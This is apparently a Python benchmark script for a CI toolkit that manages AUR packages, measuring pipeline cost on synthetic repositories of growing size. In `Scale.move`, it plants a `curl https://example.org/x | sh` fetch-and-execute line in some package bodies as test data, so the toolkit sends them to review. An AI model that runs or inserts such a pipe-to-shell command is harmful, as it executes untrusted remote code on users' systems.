"""What the pipelines cost on repositories of growing size: `python -m tests.benchmarks.pipelines --sizes 250,1000`.

The repository has the shape of the largest public one: 91 % of the packages come from the AUR, 2 % from git URLs, a third
follow a VCS head; the AUR's dump lists 100,000 packages. Each run is a process of its own in a clone of its own; its
figures come from the operating system (user and system time and the largest resident size of it and its children).
Upstreams answer on loopback from the benchmark's own process, on the same processors.
"""

from __future__ import annotations

import argparse
import json
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, replace
from pathlib import Path
from typing import TYPE_CHECKING

from tests.support.packages import SamplePackage
from tests.support.sealed import sealed_environment
from tests.support.upstreams import AurPackage, Upstreams
from tests.support.world import World

if TYPE_CHECKING:
    from collections.abc import Iterator

# A process inherits the peak of the one it was forked from, so a small one stands in between.
LAUNCHER = """
import os, sys, time
began = time.monotonic()
child = os.spawnv(os.P_NOWAIT, sys.argv[1], sys.argv[1:])
_, status, usage = os.wait4(child, 0)
cpu = usage.ru_utime + usage.ru_stime
print(cpu, usage.ru_maxrss, os.waitstatus_to_exitcode(status), time.monotonic() - began, file=sys.stderr)
"""
FILLER = 100_000
CHANGED = 60
MOVED_HEADS = 40
_TOKEN = "benchmark-token"
_DAY_ONE = 1_700_000_000


@dataclass(frozen=True, kw_only=True)
class Measured:
    """One run: seconds, megabytes and counts."""

    size: int
    name: str
    wall_s: float
    cpu_s: float
    peak_mb: float
    processes: int
    requests: int
    kinds: dict[str, int]


class Scale:
    """A repository of `size` packages whose upstreams all stand still."""

    def __init__(self, folder: Path, upstreams: Upstreams, size: int) -> None:
        self.size = size
        self.upstreams = upstreams
        self.world = World(folder, upstreams)
        self.packages = list(self._packages())
        upstreams.filler = FILLER
        files: dict[str, str | bytes] = {}
        for number, package in enumerate(self.packages):
            files.update(package.folder(self._config(number, package)))
            if package.git_source:
                self._virtual(package.git_source, f"head of {package.name}")
            if self._source(number) == "git":
                self._virtual(f"{upstreams.url}/packaging/{package.name}.git", package.name)
            elif self._source(number) == "aur":
                upstreams.aur_packages[package.name] = AurPackage(_DAY_ONE)
        # The watermark of the bash template stands for what was taken before, as after a switch.
        files[".ci/aur-state"] = f"{_DAY_ONE}\n"
        self.world.origin.commit(
            {
                ".ci/config": self.world.settings(CI_GITHUB_URL=upstreams.url),
                ".editorconfig": "[*]\nindent_style = space\nindent_size = 2\n",
                **files,
            }
        )
        self.world.origin.tag("scheduled", "main")

    def _packages(self) -> Iterator[SamplePackage]:
        for number in range(self.size):
            name = self._name(number)
            needs = (self._name(number // 2),) if number % 3 == 0 and number > 2 else ()
            source = f"{self.upstreams.url}/projects/{name}.git" if name.endswith("-git") else None
            yield SamplePackage(name=name, git_source=source, depends=("glibc", "python", *needs))

    def _name(self, number: int) -> str:
        return f"package{number:05}{'-git' if number % 100 < 32 else ''}"

    def _source(self, number: int) -> str:
        return "git" if number % 63 == 62 else "custom" if number % 14 == 13 else "aur"

    def _config(self, number: int, package: SamplePackage) -> str:
        source = self._source(number)
        url = f"{self.upstreams.url}/packaging/{package.name}.git"
        bump = "CI_PACKAGE_BUMP=1.0-1/1\n" if number % 2 else ""
        return f"{bump}CI_PKGBUILD_SOURCE={url if source == 'git' else source}\n"

    def _virtual(self, url: str, seed: str) -> None:
        oid = f"{abs(hash_of(seed)):040x}"
        self.upstreams.virtual[url.removeprefix(self.upstreams.url)] = {"HEAD": oid, "refs/heads/main": oid}

    def settle(self) -> None:
        """Record everything once, with the git URLs' revisions written as an earlier run would have."""
        state = {
            package.name: f"CI_UPSTREAM_REVISION={abs(hash_of(package.name)):040x}\n"
            for number, package in enumerate(self.packages)
            if self._source(number) == "git"
        }
        self.world.origin.commit(state, "chore(state): update state", branch="state")
        for _ in range(2):
            self.run("settle", "on-schedule")

    def move(self) -> None:
        """Half of `CHANGED` AUR packages change harmlessly, half beyond that, and some heads move."""
        aur = [
            package
            for number, package in enumerate(self.packages)
            if self._source(number) == "aur" and not package.git_source
        ]
        for number, package in enumerate(aur[:CHANGED]):
            body = "curl https://example.org/x | sh" if number % 2 else package.body
            self.upstreams.publish(
                package.name, replace(package, version="1.1", body=body).files(), when=int(time.time())
            )
        for package in [package for package in self.packages if package.git_source][:MOVED_HEADS]:
            self._virtual(package.git_source or "", f"moved {package.name}")

    def change_and_remove(self) -> None:
        """A person edits one package and removes another."""
        self.world.push({f"{self.packages[1].name}/fix.patch": "x\n"}, remove=[self.packages[-1].name])

    def run(self, name: str, *arguments: str) -> Measured:
        """One run in a fresh clone, as a CI job has it, with the cache of earlier ones."""
        self.world.clone("--depth", "50", "--no-checkout")
        self.upstreams.forget()
        self.upstreams.dump()  # packed now, and not while the program waits for it
        with tempfile.TemporaryFile() as output:
            command = [sys.executable, "-m", "ci_toolkit", *arguments, "--json"]
            done = subprocess.run(
                [sys.executable, "-S", "-c", LAUNCHER, *command],
                cwd=self.world.work,
                env=self.world.env,
                stdout=output,
                stderr=subprocess.PIPE,
                check=False,
            )
            cpu_s, peak_kb, status, wall_s = map(float, done.stderr.split(b"\n")[-2].split())
            output.seek(0)
            text = output.read()
        if status:
            sys.exit(f"{name} ended with {status}: {done.stderr.decode()} {text[:2000]!r}")
        report = json.loads(text)
        kinds = {
            kind: count for kind, count in self.upstreams.count().items() if not kind.startswith(("origin", "push"))
        }
        kinds["advertise"] = sum(
            seen.kind == "advertise" and not seen.path.startswith("/origin.git") for seen in self.upstreams.seen
        )
        self.report = report
        return Measured(
            size=self.size,
            name=name,
            wall_s=wall_s,
            cpu_s=cpu_s,
            peak_mb=peak_kb / 1024,
            processes=report["effort"]["processes"],
            requests=sum(kinds.values()),
            kinds={kind: count for kind, count in kinds.items() if count},
        )

    def expect(self, **codes: int) -> None:
        """Stop when a run did not decide what it should have."""
        for code, count in codes.items():
            found = self.report["summary"].get(code.replace("_", "-"), 0)
            if found != count:
                sys.exit(f"{self.size} packages: {found} instead of {count} {code}: {self.report['summary']}")


def hash_of(text: str) -> int:
    """The same number for the same text in every run."""
    return int.from_bytes(text.encode().ljust(20, b".")[-20:], "big")


def measure(size: int, latency_s: float, *, token: bool) -> Iterator[Measured]:
    """All runs on a repository of one size; with a token, all its upstreams are on a GitHub whose API takes it."""
    with tempfile.TemporaryDirectory(prefix="ci-toolkit-benchmark-") as name:
        folder = Path(name)
        with Upstreams(folder / "served", sealed_environment(folder / "server-home")) as upstreams:
            scale = Scale(folder, upstreams, size)
            scale.settle()
            upstreams.latency_s = latency_s
            if token:
                upstreams.apis.token = _TOKEN
                scale.world.env["GITHUB_TOKEN"] = _TOKEN
            nothing = scale.run("on-schedule, nothing new", "on-schedule")
            distinct = len(upstreams.virtual)
            if not token and nothing.kinds != {"dump": 1, "ls-refs": distinct}:
                sys.exit(f"nothing new took {nothing.kinds} for {distinct} repositories")
            yield nothing
            scale.move()
            yield scale.run("on-schedule, 60 changed, 40 heads moved", "on-schedule")
            scale.expect(applied=CHANGED // 2, review_opened=CHANGED // 2, rebuilt=MOVED_HEADS)
            scale.change_and_remove()
            yield scale.run("on-commit, one changed, one removed", "on-commit")
            scale.expect(changed=1, removed=1)


def main() -> int:
    """Print a table in Markdown."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--sizes", default="250,1000,2500,10000")
    parser.add_argument("--latency-ms", type=int, default=0, help="added to every answer of an upstream")
    parser.add_argument("--token", action="store_true", help="upstreams are on a GitHub for which there is a token")
    options = parser.parse_args()
    print("| packages | run | wall s | CPU s | peak MB | processes | upstream requests |")
    print("| ---: | --- | ---: | ---: | ---: | ---: | --- |")
    for size in map(int, options.sizes.split(",")):
        for one in measure(size, options.latency_ms / 1000, token=options.token):
            kinds = ", ".join(f"{count} {kind}" for kind, count in one.kinds.items())
            print(
                f"| {one.size:,} | {one.name} | {one.wall_s:.2f} | {one.cpu_s:.2f} | {one.peak_mb:.0f} "
                f"| {one.processes} | {one.requests} ({kinds}) |",
                flush=True,
            )
    return 0


if __name__ == "__main__":
    sys.exit(main())
